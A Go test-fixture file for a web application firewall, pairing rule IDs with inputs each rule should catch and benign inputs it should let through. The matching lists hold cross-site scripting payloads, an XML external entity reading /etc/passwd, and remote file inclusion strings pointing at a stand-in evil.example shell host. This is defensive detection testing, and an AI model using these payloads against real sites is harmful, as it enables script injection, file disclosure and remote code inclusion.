package waf

func init() {
	mendedRules = append(mendedRules, texts{
		941100,
		[]string{
			"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", `<p style="x">`, `<?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?>`,
			`<?xml-stylesheet type="text/xsl" href="x.xsl"?><script>`, `<?xml-stylesheet type="text/xsl" href="javascript:x"?>`, `<a href="javascript:alert(1)">`, "<svg onload=x>",
		},
		[]string{`<?xml-stylesheet type="text/xsl" href="vhitg-cda-v3.xsl"?>`, `<?xml-stylesheet type="text/xsl" href="cda.xslt" ?>`},
	}, texts{
		941130,
		[]string{
			`<svg xlink:href=x>`, `<a xmlns="x">`, "text/html,application/xhtml+xml xlink:href=x", `<!ENTITY x SYSTEM "file:///etc/passwd">`, "x data:text/html,y",
			`<button formaction=x>`, "<style>@import 'x'</style>", "x;base64,AAAA", "text/html;base64", "http://www.w3.org/1999/xhtml formaction",
		},
		[]string{
			"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "text/html, application/xhtml+xml, image/jxr, */*", "application/xhtml+xml",
			"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
			"http://www.w3.org/1999/xhtml", "json: {\"browserInfo\":{\"acceptHeader\":\"text/html,application/xhtml+xml;q=0.9\"}}",
		},
	})
	addedRules = append(addedRules, texts{
		9900190,
		[]string{
			"form: page=https://evil.example/shell?", "form: file=http://evil.example/a/b?", "GET /?template=http://evil.example/c99?", "GET /index.php?lang=http://evil.example/x?",
			"form: config[root_path]=https://evil.example/shell?", "json: {\"include\":\"https://evil.example/shell?\"}", "form: basepath=https://user@evil.example/shell?",
			"GET /?module=HTTPS://EVIL.EXAMPLE/shell?",
		},
		[]string{
			"form: page=https://shop.example/kasse/danke?", "form: back=https://pay.example/return?", "form: return_url=https://pay.example/return?", "form: page=2",
			"GET /?ref=https://www.google.com/search?", "form: page=https://shop.example/a?b=c", "json: {\"cancel_url\":\"https://pay.example/kasse?\"}", "form: page=was kostet das?",
			"form: template=https://cdn.example/a?v=1",
		},
	})
}
